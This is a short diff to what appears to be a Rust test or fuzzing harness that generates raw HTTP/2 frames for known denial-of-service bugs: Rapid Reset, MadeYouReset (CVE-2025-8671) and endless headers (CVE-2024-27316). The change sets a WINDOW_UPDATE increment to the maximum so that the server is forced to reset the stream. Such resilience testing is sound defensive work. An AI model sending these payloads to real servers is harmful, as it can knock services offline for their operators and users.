@@ -14,10 +14,12 @@ pub fn rapid_reset(round: u32) -> Vec<u8> {
         .concat()
 }
 
-/// CVE-2025-8671, "MadeYouReset": a call followed by a fault for which the server must reset it.
+/// CVE-2025-8671, "MadeYouReset": a call followed by a fault for which the server must reset it, and may keep the connection: a
+/// window larger than any may be (RFC 9113, section 6.9.1).
 pub fn local_reset(round: u32) -> Vec<u8> {
+    const WINDOW_MAX: u32 = 0x7fff_ffff;
     let stream = 2 * round + 1;
-    [call(stream, 0), frame::bytes(frame::WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes())].concat()
+    [call(stream, 0), frame::bytes(frame::WINDOW_UPDATE, 0, stream, &WINDOW_MAX.to_be_bytes())].concat()
 }
 
 /// CVE-2024-27316 and its kin: headers that never end.
